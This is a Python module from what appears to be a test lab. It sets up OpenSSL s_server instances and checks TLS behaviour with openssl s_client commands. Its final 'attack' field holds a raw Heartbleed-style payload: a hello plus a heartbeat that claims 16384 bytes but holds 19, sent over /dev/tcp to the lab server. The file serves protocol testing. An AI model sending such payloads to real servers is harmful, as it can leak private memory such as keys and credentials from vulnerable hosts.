# SPDX-License-Identifier: Apache-2.0
"""openssl s_client against openssl s_server, from TLS 1.0 to 1.3. The heartbeat is no longer in OpenSSL 3."""
import subprocess

from family import SERVER_ADDRESS, Family, Lab, folder_of, serve

# By port: what that server is told besides. All of them answer with a page.
SERVERS = {
    4401: "-tls1 -cipher ALL:@SECLEVEL=0 -no_etm",
    4402: "-tls1_1 -cipher ALL:@SECLEVEL=0 -serverpref",
    4403: "-tls1_2 -client_renegotiation -alpn http/1.1",
    4404: "-tls1_2 -Verify 2 -CAfile cert.pem",
    4405: "-tls1_3 -groups P-384",
    4406: "-tls1_3 -verify 2 -CAfile cert.pem -num_tickets 4",
    4407: "-tls1_2 -no_ticket -cipher ALL:@SECLEVEL=0 -psk 0123456789abcdef -nocert",
    4408: "-tls1_2 -cipher ECDHE-RSA-AES128-GCM-SHA256 -status_verbose -max_send_frag 512",
    4409: "-tls1_2 -Verify 2 -CAfile curves.pem",
    4410: "-tls1 -cipher ALL:@SECLEVEL=0 -Verify 2 -CAfile curves.pem",
}
# Of the keys by which clients sign.
CURVES = ("P-256", "P-384", "P-521")


def start(lab: Lab) -> None:
    folder = folder_of(lab, "openssl")
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=www.example.test", "-days", "30", "-keyout",
                    str(folder / "key.pem"), "-out", str(folder / "cert.pem")], check=True, capture_output=True)
    for name in ("key.pem", "cert.pem"):
        (lab.folder / "client" / name).write_bytes((folder / name).read_bytes())
    for curve in CURVES:
        key, cert = (lab.folder / "client" / f"{curve}.{what}" for what in ("key", "pem"))
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", f"ec_paramgen_curve:{curve}", "-nodes", "-subj", f"/CN={curve}",
                        "-days", "30", "-keyout", str(key), "-out", str(cert)], check=True, capture_output=True)
        with (folder / "curves.pem").open("a") as curves:
            curves.write(cert.read_text())
    for port, told in SERVERS.items():
        how = "-rev" if port in (4403, 4405) else "-www"
        serve(lab, port, "env", "-C", str(folder), "openssl", "s_server", "-accept", f"{SERVER_ADDRESS}:{port}", "-cert", "cert.pem", "-key",
              "key.pem", how, *told.split())


COMMANDS = r"""
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1 -cipher ALL:@SECLEVEL=0 -connect $SERVER:4401 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1 -cipher AES128-SHA:@SECLEVEL=0 -connect $SERVER:4401 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1 -cipher DHE-RSA-AES256-SHA:@SECLEVEL=0 -connect $SERVER:4401 | grep -q 'HTTP/1.0 200'
openssl s_client -reconnect -tls1 -cipher ALL:@SECLEVEL=0 -connect $SERVER:4401 </dev/null | grep -q Reused
openssl s_client -reconnect -no_ticket -tls1_1 -cipher ALL:@SECLEVEL=0 -connect $SERVER:4402 </dev/null | grep -q Reused
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1_1 -cipher ALL:@SECLEVEL=0 -connect $SERVER:4402 | grep -q 'HTTP/1.0 200'
! openssl s_client -tls1_3 -connect $SERVER:4401 </dev/null
(sleep 0.3; echo R; sleep 0.3; echo R; sleep 0.3) | openssl s_client -tls1_2 -alpn http/1.1 -connect $SERVER:4403 2>&1 | grep -c RENEGOTIATING | grep -q 2
(sleep 0.3; echo hello; sleep 0.2) | openssl s_client -tls1_2 -servername www.example.test -alpn h2,http/1.1 -connect $SERVER:4403 | grep -q olleh
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1_2 -cert cert.pem -key key.pem -connect $SERVER:4404 | grep -q 'HTTP/1.0 200'
! printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -quiet -tls1_2 -connect $SERVER:4404
(sleep 0.3; echo hello; sleep 0.3) | openssl s_client -tls1_3 -groups X25519:P-384 -sess_out session -connect $SERVER:4405 | grep -q olleh
(sleep 0.3; echo again; sleep 0.3) | openssl s_client -tls1_3 -groups X25519:P-384 -sess_in session -connect $SERVER:4405
(sleep 0.3; echo K; sleep 0.2; echo k; sleep 0.2) | openssl s_client -tls1_3 -connect $SERVER:4405 2>&1 | grep -c KEYUPDATE | grep -q 2
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -cert cert.pem -key key.pem -connect $SERVER:4406 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -no_middlebox -connect $SERVER:4406 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1_2 -cipher PSK:@SECLEVEL=0 -psk 0123456789abcdef -connect $SERVER:4407 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -status -maxfraglen 512 -connect $SERVER:4408 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -split_send_frag 100 -max_send_frag 512 -connect $SERVER:4408 | grep -q 'HTTP/1.0 200'
openssl s_client -fallback_scsv -tls1_2 -connect $SERVER:4408 </dev/null
! openssl s_client -cipher AES256-SHA -connect $SERVER:4408 </dev/null
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1_2 -cert P-256.pem -key P-256.key -connect $SERVER:4409 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1_2 -cert P-384.pem -key P-384.key -connect $SERVER:4409 | grep -q 'HTTP/1.0 200'
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1_2 -cert P-521.pem -key P-521.key -connect $SERVER:4409 | grep -q 'HTTP/1.0 200'
for i in 1 2 3 4 5 6 7 8; do openssl s_client -tls1_2 -cert P-521.pem -key P-521.key -connect $SERVER:4409 </dev/null || exit 1; done
printf 'GET / HTTP/1.0\r\n\r\n' | openssl s_client -ign_eof -tls1 -cipher ALL:@SECLEVEL=0 -cert P-256.pem -key P-256.key -connect $SERVER:4410 | grep -q 'HTTP/1.0 200'
"""

# A heartbeat that says 16384 bytes and holds 19, right after a hello.
HELLO = r"printf '\x16\3\1\0\x2d\1\0\0\x29\3\2'; head -c 32 /dev/zero; printf '\0\0\2\0\x2f\1\0'"
FAMILY = Family(programs=("openssl",), start=start, protocols=("tls",), commands=COMMANDS,
                attack="exec 3<>/dev/tcp/$SERVER/4401; (" + HELLO + r"; sleep 0.3; printf '\x18\3\2\0\x16\1\x40\0'; head -c 19 /dev/zero) >&3",
                found=9105000)
